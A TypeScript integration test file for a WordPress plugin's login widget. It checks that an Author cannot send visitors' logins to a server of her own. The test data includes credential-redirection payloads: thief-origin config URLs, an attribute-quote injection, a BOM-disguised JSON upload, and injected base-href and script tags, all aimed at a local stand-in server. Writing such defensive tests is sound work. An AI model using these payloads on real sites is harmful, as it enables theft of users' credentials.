// The plugin in a real WordPress: block and shortcode, and an Author who tries to lead the logins on her pages to a server of her own.
import { readFileSync } from 'node:fs'
import puppeteer from 'puppeteer-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { persona, serviceAccount } from '../../../demo/personas'
import { browserFlags, needBrowser } from '../../../scripts/test/find-browser.mjs'
import { answering } from '../../kit/answering'
import { servicesForAll } from '../../kit/for-all'
import { enginesHere } from '../drivers'
import { wordpressPrograms } from '../programs'
import { until } from '../until'
import { type Account, type Site, startWordPress } from './site'

const sofia = persona('sofia')
const here = wordpressPrograms ? [wordpressPrograms] : []

const services = await servicesForAll()
let site: Site
let author: Account
/** The Author's own server: it takes every login, and tells a configuration to whoever asks. */
const thiefOrigin: string = await answering((request, response) => {
  stolen.push(`${request.method} ${request.url}`)
  const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
  response.writeHead(200, { ...headers, 'content-type': 'application/json' }).end(thiefConfig())
}, afterAll)
const stolen: string[] = []

const thiefConfig = () =>
  JSON.stringify({ contentUrl: thiefOrigin, recordsUrl: thiefOrigin, statementsUrl: thiefOrigin })

let pages = 0
/** Publishes as the Author. @returns the page's address */
async function publish(content: string): Promise<string> {
  const made = await author.rest('POST', '/wp/v2/posts', { title: `P${++pages}`, content, status: 'publish' })
  expect(made.status).toBe(201)
  return made.json.link
}

describe.each(here)('the plugin in a real WordPress, with $php', (programs) => {
  beforeAll(async () => {
    const addresses = { contentUrl: `${services.origin}/strapi5/api`, recordsUrl: services.origin }
    site = await startWordPress(programs, { ...addresses, statementsUrl: services.origin, serviceAccount })
    author = await site.signIn('author')
  }, 120_000)
  afterAll(() => site?.close())
  beforeEach(() => {
    services.calls.clear()
    stolen.length = 0
  })

  /** Types the login of an owner on a page, in a browser that knows nobody. @returns where it went */
  async function logInOn(page: string, hash = '#/login'): Promise<string> {
    const [[, start] = []] = enginesHere()
    const driver = await start?.()
    if (!driver) throw new Error('no browser')
    try {
      await driver.open(page + hash)
      await driver.type('input[name=email]', sofia.email)
      await driver.type('input[name=password]', sofia.password ?? '')
      await driver.click('form:has(input[name=password]) button[type=submit]')
      return await until('a login', async () => {
        if (stolen.length > 0) return 'the thief'
        return services.calls.to(/POST .*\/auth\/local$/)[0]?.status === 200 && 'the services'
      })
    } finally {
      await driver.close()
    }
  }

  it('renders the shortcode with the configuration of wp-config.php, and the script of the build with its hash (EMB-07)', async () => {
    const page = await publish('[owner_widget lang="en" theme="dark" route-base="portal" onclick="alert(1)"]')
    const html = await (await fetch(page)).text()
    expect(html).toMatch(
      /<owner-portal config="[^"]+" lang="en" theme="dark" route-base="portal">Loading… [^<]+<\/owner-portal>/,
    )
    expect(html).toMatch(
      /<script type="module" integrity="sha384-[\w+/=]{64}" crossorigin="anonymous" [^>]*src=['"][^'"]+esm\/owner-widgets\.js\?ver=\w{12}['"]/,
    )
    expect(html).not.toContain('onclick')
    expect(html.split('</head>')[0]).toContain(':is(owner-portal, fiducia-wizard, owner-register):not(:defined)')
    expect(await logInOn(page, '#/portal/login')).toBe('the services')
  })

  it('names ahead the modules of the element that a page shows, and none on another page (EMB-07)', async () => {
    const headOf = async (page: string) => (await (await fetch(page)).text()).split('</head>')[0]
    const links = (head = '') =>
      [...head.matchAll(/<link rel="modulepreload" href="[^"]*\/esm\/([^"]+)" integrity="sha384-[^"]+">/g)].map(
        ([, file]) => file,
      )
    const preloads = JSON.parse(readFileSync('dist/preload.json', 'utf8'))
    for (const element of ['owner-portal', 'owner-register']) {
      const page = await publish(`[owner_widget element="${element}"]`)
      expect(links(await headOf(page))).toEqual(preloads[element].slice(1))
    }
    expect(links(await headOf(await publish('Only words')))).toEqual([])
  })

  it('lets an Author put the block on a page in the editor (EMB-07)', { timeout: 240_000 }, async () => {
    const browser = await puppeteer.launch({ executablePath: needBrowser(), args: browserFlags, headless: true })
    try {
      for (const cookie of author.cookies.split('; ')) {
        const [name = '', ...value] = cookie.split('=')
        await browser.setCookie({ name, value: value.join('='), domain: '127.0.0.1', path: '/' })
      }
      const page = await browser.newPage()
      await page.goto(`${site.origin}/wp-admin/post-new.php`, { waitUntil: 'domcontentloaded' })
      await page.waitForFunction("window.wp?.blocks?.getBlockType('owner-widgets/element')", { timeout: 60_000 })
      const link = await page.evaluate(`(async () => {
        const { blocks, data } = wp
        await data.dispatch('core/block-editor').insertBlocks(
          blocks.createBlock('owner-widgets/element', { element: 'fiducia-wizard', lang: 'en', theme: 'auto' }))
        await data.dispatch('core/editor').editPost({ title: 'Editor', status: 'publish' })
        await data.dispatch('core/editor').savePost()
        return data.select('core/editor').getPermalink()
      })()`)
      await page.waitForFunction(
        "document.body.innerText.includes('<fiducia-wizard>') || [...document.querySelectorAll('iframe')].some((one) => one.contentDocument?.body.innerText.includes('<fiducia-wizard>'))",
        { timeout: 60_000 },
      )
      const html = await (await fetch(String(link))).text()
      expect(html).toMatch(/<fiducia-wizard config="[^"]+" lang="en" theme="auto"><\/fiducia-wizard>/)
    } finally {
      await browser.close()
    }
  })

  it.each<[string, () => Promise<string> | string]>([
    ['an address in the shortcode', () => `[owner_widget config="${thiefOrigin}/c.json"]`],
    ['an address without a scheme', () => `[owner_widget CONFIG="${thiefOrigin.replace('http:', '')}/c.json"]`],
    ['a configuration in the shortcode', () => `[owner_widget config='${thiefConfig()}']`],
    // WordPress takes no JSON; with a byte order mark in front it is a text to it, and JSON to a browser.
    [
      'a file among the uploads',
      async () => {
        const sent = await author.rest('POST', '/wp/v2/media', { file: 'c.txt', text: `\uFEFF${thiefConfig()}` })
        expect(sent.status).toBe(201)
        return `[owner_widget config="${new URL(sent.json.source_url).pathname}"]`
      },
    ],
    [
      'an attribute of the block',
      () => `<!-- wp:owner-widgets/element ${JSON.stringify({ config: `${thiefOrigin}/c.json` })} /-->`,
    ],
    ['a quote that ends an attribute', () => `[owner_widget lang='es" config="${thiefOrigin}/c.json']`],
    [
      'tags and scripts of her own',
      () =>
        `<base href="${thiefOrigin}/"><owner-portal config="${thiefOrigin}/c.json"></owner-portal><script>document.querySelector('owner-portal').config='${thiefOrigin}'</script>\n\n[owner_widget]`,
    ],
  ])(
    'sends the logins of an Author’s page where the site says, whatever she writes: %s (EMB-07)',
    async (_, content) => {
      const page = await publish(await content())
      expect(await logInOn(page)).toBe('the services')
      expect(stolen).toEqual([])
    },
  )

  it('lets no Author change the settings of the site (EMB-07)', async () => {
    expect((await author.rest('POST', '/wp/v2/settings', { title: 'Mine' })).status).toBe(403)
    expect((await author.rest('POST', '/wp/v2/plugins', { slug: 'hello-dolly' })).status).toBe(403)
  })
})
